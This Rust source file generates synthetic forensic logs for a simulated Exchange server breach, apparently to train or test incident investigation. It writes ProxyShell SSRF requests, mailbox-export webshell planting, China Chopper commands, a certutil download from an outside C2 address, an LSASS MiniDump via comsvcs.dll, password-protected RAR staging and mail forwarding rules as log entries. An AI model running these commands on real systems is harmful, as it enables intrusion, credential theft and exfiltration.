//! The intrusion, planted along the public timeline of the Electoral Commission breach
//! (threat brief §1–2): ProxyShell on 24 Aug 2021, a webshell via mailbox export,
//! returns on 16 Sep 2021, 13 Jun 2022 and 2 Aug 2022, spam from the server on
//! 28 Oct 2021, backdoors and credential dumping on 14 Mar 2022 (with a second actor's
//! ProxyShell), register exports staged and taken, mailbox forwarding, and the burst of
//! MFA prompts that finally gave it away in October 2022. Between the known dates the
//! webshell is checked in on about monthly, as a long-lived intruder does.

use crate::background::{
    EXCH_FQDN, EXCH_IP, NETBIOS, Org, cmdlet, evt_path, file_access, httpproxy_header, httpproxy_line, httpproxy_path, iis_header,
    iis_line, iis_path, msgtrk_header, msgtrk_line, msgtrk_path, okta_line, okta_path, rps_header, rps_line, rps_path, sysmon,
};
use crate::{MINUTE, Output, PlantedStep, Rng, SECOND, at};

const UA_PY: &str = "python-requests/2.25.1";
const SHELL: &str = "/aspnet_client/Xml.aspx";
const SHELL_FILE: &str = "C:\\inetpub\\wwwroot\\aspnet_client\\Xml.aspx";
const W3WP: &str = "c:\\windows\\system32\\inetsrv\\w3wp.exe";
const MRS: &str = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMailboxReplication.exe";

struct Plan<'a> {
    o: &'a mut Output,
    rng: &'a mut Rng,
    steps: Vec<PlantedStep>,
}

impl Plan<'_> {
    fn step(&mut self, ts: i64, host: &str, technique: &'static str, tactic: &'static str, description: &str) -> usize {
        self.steps.push(PlantedStep { ts, host: host.into(), technique, tactic, description: description.into() });
        self.steps.len() - 1
    }

    fn iis(&mut self, ts: i64, method: &str, stem: &str, query: &str, ip: &str, ua: &str, status: u16, step: usize) {
        let line = iis_line(ts, method, stem, query, "", ip, ua, status, 200 + self.rng.below(900) as u32);
        self.o.text(&iis_path(ts), &iis_header(ts), ts, line, Some(step));
    }

    fn sysmon(&mut self, ts: i64, id: u32, pairs: &[(&str, &str)], step: usize) {
        self.o.win(&evt_path("EXCH01", "Sysmon", ts), ts, sysmon(EXCH_FQDN, id, pairs), Some(step));
    }

    fn shell_cmd(&mut self, ts: i64, cmd: &str, step: usize) {
        self.sysmon(
            ts,
            1,
            &[
                ("RuleName", "-"),
                ("Image", "C:\\Windows\\System32\\cmd.exe"),
                ("CommandLine", cmd),
                ("CurrentDirectory", "c:\\windows\\system32\\inetsrv\\"),
                ("User", "NT AUTHORITY\\SYSTEM"),
                ("IntegrityLevel", "System"),
                ("ParentImage", W3WP),
                ("ParentCommandLine", "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"MSExchangeOWAAppPool\" -v \"v4.0\" -c \"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config\""),
            ],
            step,
        );
    }

    fn cmdlet(&mut self, ts: i64, cmd: &str, params: &str, step: usize) {
        self.o.win(&evt_path("EXCH01", "MSExchange-Management", ts), ts, cmdlet(cmd, params, "administrator"), Some(step));
    }

    /// A webshell use: the POST to the shell and the command it runs.
    fn webshell(&mut self, ts: i64, ip: &str, cmd: &str, step: usize) {
        self.iis(ts, "POST", SHELL, "", ip, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101 Firefox/91.0", 200, step);
        self.shell_cmd(ts + 2 * SECOND, cmd, step);
    }
}

fn chopper(dir: &str, cmd: &str) -> String {
    format!("cmd /c cd /d \"{dir}\"&{cmd}&echo [S]&cd&echo [E]")
}

/// Plants the intrusion; returns its steps (evidence is filled in when files are written).
pub fn plant(o: &mut Output, org: &Org, rng: &mut Rng) -> Vec<PlantedStep> {
    let mut p = Plan { o, rng, steps: Vec::new() };
    let ex = "EXCH01";
    let ip1 = "104.244.79.6";

    // 24 Aug 2021: ProxyShell.
    let t = at("2021-08-24 02:10:17");
    let s = p.step(t, ex, "T1190", "initial-access", "ProxyShell autodiscover.json SSRF probes, refused (HTTP 401)");
    for k in 0..3 {
        p.iis(
            t + k * 20 * SECOND,
            "GET",
            "/autodiscover/autodiscover.json",
            "@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp",
            ip1,
            UA_PY,
            401,
            s,
        );
    }
    let t = at("2021-08-24 02:13:05");
    let s = p.step(t, ex, "T1190", "initial-access", "ProxyShell: SSRF to the Exchange PowerShell backend succeeded (HTTP 200)");
    let q = "@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCAAAAEFkbWluaXN0cmF0b3JAZWxlY3RvcmFsY29tbWlzc2lvbi5leGFtcGxl&Email=autodiscover/autodiscover.json%3F@evil.corp";
    p.iis(t, "POST", "/autodiscover/autodiscover.json", q, ip1, UA_PY, 200, s);
    let line = httpproxy_line(
        p.rng,
        t,
        "Autodiscover",
        "/powershell",
        q,
        "",
        "ServerInfo~a]@EXCH01.ec.local:444/powershell/?X-Rps-CAT=VgEAVAdX",
        UA_PY,
        ip1,
        200,
        "POST",
        "ServerInfo-Header",
    );
    p.o.text(&httpproxy_path(t, "Autodiscover"), &httpproxy_header(t), t, line, Some(s));
    let line = rps_line(p.rng, t + SECOND, "NT AUTHORITY\\SYSTEM", ip1, 200, UA_PY, "New-ManagementRoleAssignment", "X-Rps-CAT=VgEAVAdX");
    p.o.text(&rps_path(t), &rps_header(t), t + SECOND, line, Some(s));

    let t = at("2021-08-24 02:14:40");
    let s = p.step(t, ex, "T1098", "persistence", "Mailbox Import Export role granted to Administrator through the PowerShell backend");
    p.cmdlet(t, "New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -User \"Administrator\"", s);

    let t = at("2021-08-24 02:15:30");
    let s = p.step(
        t,
        ex,
        "T1505.003",
        "persistence",
        "Webshell planted by exporting a mailbox to \\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\Xml.aspx",
    );
    p.cmdlet(t, "New-MailboxExportRequest", "-Mailbox \"administrator@electoralcommission.example\" -FilePath \"\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\Xml.aspx\" -IncludeFolders \"#Drafts#\" -ContentFilter \"(Subject -eq 'Xml')\"", s);
    p.sysmon(
        t + 40 * SECOND,
        11,
        &[("RuleName", "-"), ("Image", MRS), ("TargetFilename", SHELL_FILE), ("User", "NT AUTHORITY\\SYSTEM")],
        s,
    );

    let t = at("2021-08-24 02:16:45");
    let s = p.step(t, ex, "T1070", "defense-evasion", "Mailbox export request removed to hide the webshell's origin");
    p.cmdlet(t, "Remove-MailboxExportRequest", "-Identity \"administrator\\MailboxExport\" -Confirm:$false", s);

    let t = at("2021-08-24 02:20:12");
    let s = p.step(t, ex, "T1059.003", "execution", "Commands run through the China Chopper webshell by w3wp.exe");
    p.webshell(t, ip1, &chopper("C:\\inetpub\\wwwroot\\aspnet_client", "whoami"), s);
    p.webshell(t + 45 * SECOND, ip1, &chopper("C:\\inetpub\\wwwroot\\aspnet_client", "ipconfig /all"), s);

    let t = at("2021-08-24 02:31:02");
    let s = p.step(t, ex, "T1105", "command-and-control", "Tools downloaded from the C2 with certutil");
    p.iis(t, "POST", SHELL, "", ip1, "Mozilla/5.0", 200, s);
    let cmd = "\"cmd\" /c cd /d \"c:\\PerfLogs\"&certutil.exe -urlcache -split -f http://137.184.67.33:8080/themes.aspx c:\\perflogs\\t&echo [S]&cd&echo [E]";
    p.shell_cmd(t + 2 * SECOND, cmd, s);

    // 16 Sep 2021: back through the webshell.
    let t = at("2021-09-16 21:44:10");
    let s = p.step(t, ex, "T1505.003", "persistence", "Return through the webshell");
    p.webshell(t, "5.180.61.17", &chopper("C:\\inetpub\\wwwroot\\aspnet_client", "net group \"Exchange Trusted Subsystem\" /domain"), s);

    // 28 Oct 2021: staff report spam sent from the server.
    let t = at("2021-10-28 09:02:00");
    let s = p.step(t, ex, "T1586.002", "resource-development", "Spam burst sent from a compromised mailbox to external recipients");
    let sender = format!("{}@electoralcommission.example", org.users[20].sam);
    for k in 0..220 {
        let ts = t + k as i64 * 3 * SECOND;
        let rcpt = format!("user{}@{}", p.rng.below(100_000), ["mail.example.net", "inbox.example.com", "post.example.org"][k % 3]);
        let line = msgtrk_line(p.rng, ts, "SEND", "SMTP", &sender, &[&rcpt], "Invoice overdue – action required", EXCH_IP);
        p.o.text(&msgtrk_path(ts), &msgtrk_header(ts), ts, line, Some(s));
    }

    // Monthly check-ins on the webshell (the fourteen quiet months).
    let checkins = [
        ("2021-11-20 23:05:44", "5.180.61.17"),
        ("2021-12-18 22:41:09", "94.140.8.113"),
        ("2022-01-22 01:12:30", "5.180.61.17"),
        ("2022-02-19 23:58:02", "94.140.8.113"),
        ("2022-04-16 00:20:51", "103.9.76.208"),
        ("2022-05-14 22:31:17", "103.9.76.211"),
        ("2022-07-09 23:49:38", "94.140.8.48"),
        ("2022-09-10 00:03:05", "185.220.101.182"),
    ];
    for (when, ip) in checkins {
        let t = at(when);
        let s = p.step(t, ex, "T1505.003", "persistence", &format!("Webshell check-in from {ip}"));
        p.webshell(t, ip, &chopper("C:\\inetpub\\wwwroot\\aspnet_client", "cd"), s);
    }

    // 14 Mar 2022: backdoors, credential dumping, and another actor's ProxyShell.
    let t = at("2022-03-14 01:15:20");
    let s = p.step(t, ex, "T1105", "command-and-control", "Backdoor tools dropped in C:\\Users\\Public");
    p.iis(t - 5 * SECOND, "POST", SHELL, "", "86.48.6.69", "Mozilla/5.0", 200, s);
    for f in ["C:\\Users\\Public\\all.exe", "C:\\Users\\Public\\dump.dll", "C:\\Users\\Public\\ad.exe"] {
        p.sysmon(t, 11, &[("RuleName", "-"), ("Image", W3WP), ("TargetFilename", f), ("User", "NT AUTHORITY\\SYSTEM")], s);
    }
    let t = at("2022-03-14 01:22:03");
    let s = p.step(t, ex, "T1003.001", "credential-access", "LSASS memory dumped with comsvcs.dll MiniDump");
    p.shell_cmd(
        t,
        &chopper("C:\\Users\\Public", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 632 C:\\Users\\Public\\lsass.dmp full"),
        s,
    );
    p.sysmon(
        t + 3 * SECOND,
        11,
        &[
            ("RuleName", "-"),
            ("Image", "C:\\Windows\\System32\\rundll32.exe"),
            ("TargetFilename", "C:\\Users\\Public\\lsass.dmp"),
            ("User", "NT AUTHORITY\\SYSTEM"),
        ],
        s,
    );
    let t = at("2022-03-14 04:40:11");
    let s = p.step(t, ex, "T1190", "initial-access", "ProxyShell exploited again, from another actor's address");
    let q = "@fuzz.local/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCAAAAGFkbWlu&Email=autodiscover/autodiscover.json%3F@fuzz.local";
    p.iis(t, "GET", "/autodiscover/autodiscover.json", q, "86.48.12.64", "Mozilla/5.0 zgrab/0.x", 200, s);

    // 13 Jun 2022: registers staged in the web root and taken.
    let t = at("2022-06-13 00:41:07");
    let s =
        p.step(t, "FS01", "T1039", "collection", "Register exports on \\\\FS01\\Registers read from the Exchange server as Administrator");
    for (k, f) in crate::register::FILES.iter().enumerate() {
        file_access(p.o, t + k as i64 * 2 * SECOND, "administrator", EXCH_IP, f, Some(s));
    }
    let t = at("2022-06-13 00:44:19");
    let s = p.step(t, ex, "T1560.001", "collection", "Register exports archived with RAR into the web root");
    p.iis(t - 3 * SECOND, "POST", SHELL, "", "94.140.8.48", "Mozilla/5.0", 200, s);
    p.shell_cmd(t, &chopper("C:\\PerfLogs", "c:\\perflogs\\rar.exe a -hpE1ect0r C:\\inetpub\\wwwroot\\aspnet_client\\r.rar \\\\FS01\\Registers\\2021 \\\\FS01\\Registers\\2022"), s);
    p.sysmon(
        t + 30 * SECOND,
        11,
        &[
            ("RuleName", "-"),
            ("Image", "c:\\perflogs\\rar.exe"),
            ("TargetFilename", "C:\\inetpub\\wwwroot\\aspnet_client\\r.rar"),
            ("User", "NT AUTHORITY\\SYSTEM"),
        ],
        s,
    );
    let t = at("2022-06-13 00:52:58");
    let s = p.step(t, ex, "T1041", "exfiltration", "The archive downloaded from the web root");
    p.iis(t, "GET", "/aspnet_client/r.rar", "", "94.140.8.48", "Wget/1.21", 200, s);

    // 2 Aug 2022: back again; mail forwarding to an outside address.
    let t = at("2022-08-02 23:13:29");
    let s = p.step(t, ex, "T1114.003", "collection", "Inbox rule forwarding the chief executive's mail outside");
    p.iis(t - 10 * SECOND, "POST", SHELL, "", "185.220.101.182", "Mozilla/5.0", 200, s);
    p.cmdlet(t, "New-InboxRule", "-Mailbox \"chief.executive\" -Name \"Archive\" -ForwardTo \"records@mail-archive.example\" -From \"press@electoralcommission.example\"", s);
    p.cmdlet(
        t + MINUTE,
        "Set-Mailbox",
        "-Identity \"chief.executive\" -ForwardingSmtpAddress \"records@mail-archive.example\" -DeliverToMailboxAndForward $true",
        s,
    );

    // October 2022: ten MFA prompts in under a minute give it away.
    let t = at("2022-10-11 19:26:00");
    let s = p.step(t, "Okta", "T1621", "credential-access", "Ten MFA push prompts for one account in under a minute");
    let victim = &org.users[3];
    for k in 0..10 {
        let ts = t + k * 5 * SECOND;
        let line = okta_line(
            p.rng,
            ts,
            "system.push.send_factor_verify_push",
            "A push verification was sent",
            victim,
            "185.220.101.182",
            "SUCCESS",
        );
        p.o.text(&okta_path(ts), &[], ts, line, Some(s));
    }
    let _ = NETBIOS;
    p.steps
}
